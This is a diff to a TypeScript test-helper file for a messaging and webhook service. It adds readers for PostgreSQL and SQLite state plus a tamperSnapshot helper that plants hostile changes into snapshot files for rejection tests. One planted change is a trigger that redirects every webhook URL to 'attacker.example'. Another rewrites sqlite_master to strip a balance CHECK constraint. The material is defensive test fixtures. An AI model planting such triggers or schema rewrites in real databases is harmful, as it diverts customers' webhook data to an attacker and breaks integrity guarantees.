@@ -47,10 +47,37 @@
 //   table at once (lists show one family each, and not every table has one).
 // - failInserts: storage refusing inserts into one table (a trigger), for proving a write is atomic
 //   when the database itself fails mid-transaction: no surface makes the database fail.
+// - deliveriesDue: the webhook deliveries still due for an attempt by a time. The delivery log shows
+//   each one's status, not whether an attempt of it is still waiting to be made.
+// - clockMode: which clock a service runs on (manual or system); GET /v1/sandbox/clock shows the time only.
+// - scheduleEmittingJob (a writer): a job that emits an event when it runs, as a domain job does. No
+//   surface schedules a job of a test's choosing.
 // - setCampaignStatus, setWebhookStreak, addCharge, addSuppression, setBrandPageConfig, renameApiKeyInStorage,
 //   handOverWithoutText, plantOlderMailboxRow, emitThenRollBack, emitAndListInTransaction,
 //   emitOutsideTransaction, revokeKeyFromAnotherConnection (setters and writers): states and
 //   writes no surface makes; see each comment.
+// - pgSchemaVersions, pgTableNames, plantNewerPgSchema, pgSchema: a PostgreSQL database's recorded
+//   schema versions and its tables, read (or a newer version planted) from outside any service: a
+//   database a start refused has no service in front of it to ask, and no surface shows versions.
+// - pgAccountIds, pgApiKeyCount, pgReplicaCount, pgMessages, pgWalletAndLedger, pgMediaOf, pgMediaNames: rows as
+//   a PostgreSQL database holds them, read on a connection of the test's own, for "stored in
+//   PostgreSQL" (and once, not twice) as the database itself has it, whichever replica wrote it.
+// - pgApiKeyIds, pgDeliveredCount, pgChargeCounts, pgRepeatedStatusEvents: what replicas on one
+//   database wrote, as it holds it: keys a joining replica must not add, each message delivered and
+//   charged once, no status event written twice (the API shows one replica's answers at a time, and
+//   no list of ledger rows or every event's repeats).
+// - deliveryClaimOf, deliveryStatusOf: one event's delivery row (its claim, attempt and status) read
+//   while no worker is left to say anything about it.
+// - deliveryClaimOwners, settledDeliveryCount, deliveryAttempts: the webhook deliveries' claims
+//   (which worker process holds an attempt, its lease) and attempt numbers. A delivery's view shows
+//   its status, never which process claimed it. workerWindow: how many attempts one worker process
+//   has in flight to one endpoint at most, which makes "more open than one window: two are sending".
+// - snapshotIntegrity, snapshotMessageBodies, makeSnapshotOlder, tamperSnapshot: a snapshot file (an
+//   SQLite file a service is not running on) read or altered as a file: its rows prove the copy was
+//   consistent and whole, and an older or hostile file is something only another build or an
+//   attacker writes. No service is running on the file to ask.
+// - emailChargesInFile: the email charges per email, read from a data directory's SQLite file beside
+//   the service running on it in another process (the test's only way in): the ledger has no API.
 import type { ServiceDeps } from '../../src/server/deps.js';
 import type { TestSql } from './test-sql.js';
 import type { UsageCategory } from '../../src/api/values/billing.js';
@@ -66,6 +93,10 @@ import { SQLITE_SCHEMA } from '../../src/server/storage/sqlite/migrations.js';
 import { DB_FILE } from '../../src/api/values/local-service.js';
 import { readFileSync, readdirSync } from 'node:fs';
 import Database from 'better-sqlite3';
+import pg from 'pg';
+import { PG_SCHEMA } from '../../src/server/storage/postgres/migrations.js';
+import { UnsupportedSchemaError } from '../../src/server/storage/storage-errors.js';
+import { DEFAULT_WEBHOOK_OPTIONS } from '../../src/server/webhooks/delivery-worker.js';
 import { createHash } from 'node:crypto';
 import { join } from 'node:path';
 
@@ -302,6 +333,35 @@ export async function emitAndListInTransaction(svc: Pick<Inspectable, 'deps'>, a
   });
 }
 
+/** The webhook deliveries due for an attempt at or before `at` (epoch ms), as the worker reads them. */
+export async function deliveriesDue(svc: Pick<Inspectable, 'deps'>, at: number): Promise<unknown[]> {
+  return await svc.deps.uow.read(async (tx) => await tx.webhookDeliveries.due(at));
+}
+
+/** The clock the service runs on: `manual` (moves only when advanced) or `system`. */
+export function clockMode(svc: { deps: Pick<ServiceDeps, 'clock'> }): 'manual' | 'system' {
+  return svc.deps.clock.mode;
+}
+
+/**
+ * A job of kind `kind`, run at `at` (service time), that emits `type` with `fields` for `accountId`
+ * in its own transaction, as a domain job does. Registered on every replica: the clock advance that
+ * runs it goes to whichever one the request reaches.
+ */
+export async function scheduleEmittingJob(
+  svc: Pick<Inspectable, 'deps'> & { replicas: Array<{ deps: Pick<ServiceDeps, 'scheduler'> }> },
+  kind: string,
+  at: number,
+  event: { accountId: string; type: string; fields: Record<string, unknown> },
+): Promise<void> {
+  for (const r of svc.replicas) {
+    r.deps.scheduler.register(kind, async (_payload, _job, tx) => {
+      await tx.events.emit(event.accountId, event.type, event.fields);
+    });
+  }
+  await svc.deps.uow.write((tx) => tx.scheduler.schedule(kind, at, {}));
+}
+
 /** The event store's emit called outside any transaction, as a programming error would (no request can). */
 export async function emitOutsideTransaction(svc: { deps: Pick<ServiceDeps, 'events'> }, accountId: string, type: string, fields: Record<string, unknown>): Promise<void> {
   await svc.deps.events.emit(accountId, type, fields);
@@ -426,4 +486,211 @@ export async function failInserts(svc: Pick<Inspectable, 'sql'>, table: string, 
     await sql.run(`DROP TRIGGER ${trigger} ON ${table}`);
     await sql.run(`DROP FUNCTION ${trigger}()`);
   };
+}
+
+// --- a PostgreSQL database, read on a connection of the test's own -------------------------------
+
+/** Runs one statement on `url` on a connection of its own, outside any service. */
+async function pgRows<R extends pg.QueryResultRow>(url: string, text: string, values: unknown[] = []): Promise<R[]> {
+  const client = new pg.Client({ connectionString: url });
+  await client.connect();
+  try {
+    return (await client.query<R>(text, values)).rows;
+  } finally {
+    await client.end();
+  }
+}
+
+/**
+ * This build's PostgreSQL schema: the newest version it migrates to, the versions a new database
+ * records, and the error a start throws on a database of a version it does not migrate.
+ */
+export const pgSchema = {
+  newest: PG_SCHEMA.version,
+  newDatabaseVersions: PG_SCHEMA.pending([]).map((m) => m.version),
+  UnsupportedSchemaError,
+};
+
+/** The schema versions the database records, ascending: what its migrations wrote. */
+export async function pgSchemaVersions(url: string): Promise<number[]> {
+  return (await pgRows<{ version: number }>(url, 'SELECT version FROM schema_migrations ORDER BY version')).map((r) => r.version);
+}
+
+/** The tables of the database's public schema: what a refused start must not have created. */
+export async function pgTableNames(url: string): Promise<string[]> {
+  return (await pgRows<{ table_name: string }>(url, "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'")).map((t) => t.table_name);
+}
+
+/** A database an svc newer than this build left: schema_migrations alone, recording `version`. */
+export async function plantNewerPgSchema(url: string, version: number): Promise<void> {
+  if (!Number.isInteger(version)) throw new Error(`plantNewerPgSchema: a whole version, please (${version})`);
+  await pgRows(url, `CREATE TABLE schema_migrations (version integer PRIMARY KEY, name text NOT NULL, applied_at text NOT NULL); INSERT INTO schema_migrations VALUES (${version}, 'from a newer build', 'then')`);
+}
+
+/** The ids of every account the database holds (the agency and its sub-accounts): how many bootstraps ran. */
+export async function pgAccountIds(url: string): Promise<string[]> {
+  return (await pgRows<{ id: string }>(url, 'SELECT id FROM accounts')).map((a) => a.id);
+}
+
+/** How many API keys the database holds, of every account: how many bootstraps made keys. */
+export async function pgApiKeyCount(url: string): Promise<number> {
+  return (await pgRows(url, 'SELECT id FROM api_keys')).length;
+}
+
+/** How many replicas the database has registered (each process while it runs): those that left are gone. */
+export async function pgReplicaCount(url: string): Promise<number> {
+  return (await pgRows(url, 'SELECT id FROM replicas')).length;
+}
+
+/** The ids of every API key the database holds, ascending: a replica that joins must add none. */
+export async function pgApiKeyIds(url: string): Promise<Array<{ id: string }>> {
+  return await pgRows(url, 'SELECT id FROM api_keys ORDER BY id');
+}
+
+/** How many of the messages `ids` the database holds as delivered. */
+export async function pgDeliveredCount(url: string, ids: string[]): Promise<number> {
+  return (await pgRows<{ n: number }>(url, "SELECT COUNT(*)::int AS n FROM messages WHERE id = ANY($1) AND status = 'delivered'", [ids]))[0]!.n;
+}
+
+/** Per record of `refs` charged, how many charge rows the ledger holds for it (a record charged twice shows 2). */
+export async function pgChargeCounts(url: string, refs: string[]): Promise<Array<{ ref: string; n: number }>> {
+  return await pgRows(url, "SELECT ref, COUNT(*)::int AS n FROM ledger WHERE kind = 'charge' AND ref = ANY($1) GROUP BY ref", [refs]);
+}
+
+/** The counts of message.status events written more than once for the same message and status (none, when each job ran once). */
+export async function pgRepeatedStatusEvents(url: string): Promise<Array<{ n: number }>> {
+  return await pgRows(
+    url,
+    "SELECT COUNT(*)::int AS n FROM events WHERE type = 'message.status' GROUP BY body::json->'data'->>'messageId', body::json->'data'->>'status', body::json->>'messageId', body::json->>'status' HAVING COUNT(*) > 1",
+  );
+}
+
+/** The stored messages with this id or this body, as the database holds them (body and status). */
+export async function pgMessages(url: string, by: { id: string } | { body: string }): Promise<Array<{ body: string; status: string }>> {
+  const [column, value] = 'id' in by ? ['id', by.id] : ['body', by.body];
+  return await pgRows(url, `SELECT body, status FROM messages WHERE ${column} = $1`, [value]);
+}
+
+/** An account's wallet balance and the sum of its ledger rows, as text (bigint), read in one statement. */
+export async function pgWalletAndLedger(url: string, accountId: string): Promise<{ balance: string; ledger: string } | undefined> {
+  const [wallet] = await pgRows<{ balance: string; ledger: string }>(
+    url,
+    'SELECT w.balance_cents::text AS balance, (SELECT SUM(amount_cents) FROM ledger l WHERE l.account_id = w.account_id)::text AS ledger FROM wallets w WHERE w.account_id = $1',
+    [accountId],
+  );
+  return wallet;
+}
+
+/** The stored media file of this name (its owner, type and size): kept in the database, not on a replica's disk. */
+export async function pgMediaOf(url: string, name: string): Promise<Array<{ account_id: string; content_type: string; size: number }>> {
+  return await pgRows(url, 'SELECT account_id, content_type, size FROM media WHERE name = $1', [name]);
+}
+
+/** The names of every stored media file, as rows: what a refused upload must leave as it was. */
+export async function pgMediaNames(url: string): Promise<Array<{ name: string }>> {
+  return await pgRows(url, 'SELECT name FROM media');
+}
+
+/** The most attempts one worker process has in flight to one endpoint (its default window): a setting no surface shows. */
+export const workerWindow: number = DEFAULT_WEBHOOK_OPTIONS.window;
+
+/** Per worker process, how many webhook deliveries it holds claimed now (a lease set): which processes share the work. */
+export async function deliveryClaimOwners(url: string): Promise<Array<{ owner: string; n: string }>> {
+  return await pgRows(url, 'SELECT claimed_by AS owner, count(*) AS n FROM webhook_deliveries WHERE lease_until IS NOT NULL GROUP BY claimed_by');
+}
+
+/** How many webhook deliveries succeeded and are no longer claimed: recorded, their worker done with them. */
+export async function settledDeliveryCount(url: string): Promise<number> {
+  return Number((await pgRows<{ n: string }>(url, "SELECT count(*) AS n FROM webhook_deliveries WHERE status = 'succeeded' AND lease_until IS NULL"))[0]!.n);
+}
+
+/** The claim of an event's (first) webhook delivery: who holds it, if anyone, and its attempt number. */
+export async function deliveryClaimOf(url: string, eventId: string): Promise<{ claimed_by: string | null; attempt: number } | undefined> {
+  return (await pgRows<{ claimed_by: string | null; attempt: number }>(url, 'SELECT claimed_by, attempt::int AS attempt FROM webhook_deliveries WHERE event_id = $1', [eventId]))[0];
+}
+
+/** The status of an event's (first) webhook delivery; throws when the event has none. */
+export async function deliveryStatusOf(url: string, eventId: string): Promise<string> {
+  return (await pgRows<{ status: string }>(url, 'SELECT status FROM webhook_deliveries WHERE event_id = $1', [eventId]))[0]!.status;
+}
+
+/** Every webhook delivery's event and attempt number: an event sent twice would show a second row or attempt. */
+export async function deliveryAttempts(url: string): Promise<Array<{ event_id: string; attempt: string }>> {
+  return await pgRows(url, 'SELECT event_id, attempt FROM webhook_deliveries');
+}
+
+// --- SQLite snapshot files (no service running on them) -----------------------------------------
+
+/** Opens the SQLite file `file` on its own connection, runs `use` and closes it. */
+function withFile<T>(file: string, readonly: boolean, use: (db: Database.Database) => T): T {
+  const db = new Database(file, { readonly });
+  try {
+    return use(db);
+  } finally {
+    db.close();
+  }
+}
+
+/** A snapshot file's integrity check, its message count, and its messages without their conversation row (a torn copy). */
+export function snapshotIntegrity(file: string): { integrity: unknown; messages: number; orphanMessages: number } {
+  return withFile(file, true, (db) => ({
+    integrity: db.pragma('integrity_check', { simple: true }),
+    messages: (db.prepare('SELECT COUNT(*) AS n FROM messages').get() as { n: number }).n,
+    orphanMessages: (db.prepare('SELECT COUNT(*) AS n FROM messages m WHERE NOT EXISTS (SELECT 1 FROM conversations c WHERE c.account_id = m.account_id AND c.counterparty = m.counterparty)').get() as { n: number }).n,
+  }));
+}
+
+/** Per email, its charge rows in the ledger of a data directory's SQLite file (read-only, beside the process running on it): count, cents, quantity. */
+export function emailChargesInFile(dataDir: string): Array<{ ref: string; n: number; cents: number; quantity: number }> {
+  const db = new Database(join(dataDir, DB_FILE), { readonly: true, fileMustExist: true });
+  try {
+    return db
+      .prepare(`SELECT ref, COUNT(*) AS n, -SUM(amount_cents) AS cents, SUM(quantity) AS quantity FROM ledger WHERE kind = 'charge' AND category = 'email' GROUP BY ref`)
+      .all() as Array<{ ref: string; n: number; cents: number; quantity: number }>;
+  } finally {
+    db.close();
+  }
+}
+
+/** Every message body an SQLite file holds (a snapshot, or a data directory's database with no service on it). */
+export function snapshotMessageBodies(file: string): string[] {
+  return withFile(file, true, (db) => (db.prepare('SELECT body FROM messages').all() as Array<{ body: string }>).map((m) => m.body));
+}
+
+/** A snapshot made as an svc one migration older would have: its newest recorded version removed. Returns that version. */
+export function makeSnapshotOlder(file: string): number {
+  return withFile(file, false, (db) => {
+    const latest = (db.prepare('SELECT MAX(version) AS v FROM schema_migrations').get() as { v: number }).v;
+    db.prepare('DELETE FROM schema_migrations WHERE version = ?').run(latest);
+    return latest;
+  });
+}
+
+/**
+ * What a hostile or foreign snapshot file can hold that ours never does, planted into `file`:
+ * `trigger` (planted, on api_keys: it rewrites every webhook URL), `view` (planted_view), `dropped`
+ * (table sandbox_dns gone), `column` (messages.planted), `index` (planted_index on messages),
+ * `check` (the wallets table's CHECK (balance_cents >= 0) removed by rewriting its stored definition).
+ */
+export type SnapshotTamper = 'trigger' | 'view' | 'dropped' | 'column' | 'index' | 'check';
+
+const TAMPER_SQL: Record<Exclude<SnapshotTamper, 'check'>, string> = {
+  trigger: "CREATE TRIGGER planted AFTER INSERT ON api_keys BEGIN UPDATE webhook_endpoints SET url = 'https://attacker.example/hook'; END",
+  view: 'CREATE VIEW planted_view AS SELECT body FROM messages',
+  dropped: 'DROP TABLE sandbox_dns',
+  column: 'ALTER TABLE messages ADD COLUMN planted TEXT',
+  index: 'CREATE INDEX planted_index ON messages(body)',
+};
+
+/** Plants `tamper` (see SnapshotTamper) into the snapshot file `file`, as no svc writes it. */
+export function tamperSnapshot(file: string, tamper: SnapshotTamper): void {
+  withFile(file, false, (db) => {
+    if (tamper !== 'check') return void db.exec(TAMPER_SQL[tamper]);
+    // A removed CHECK: the stored definition rewritten, as a hostile file can be.
+    const { sql: table } = db.prepare("SELECT sql FROM sqlite_master WHERE name = 'wallets'").get() as { sql: string };
+    db.unsafeMode(true);
+    db.pragma('writable_schema = ON');
+    db.prepare("UPDATE sqlite_master SET sql = ? WHERE name = 'wallets'").run(table.replace('CHECK (balance_cents >= 0)', ''));
+    db.pragma('writable_schema = OFF');
+  });
 }
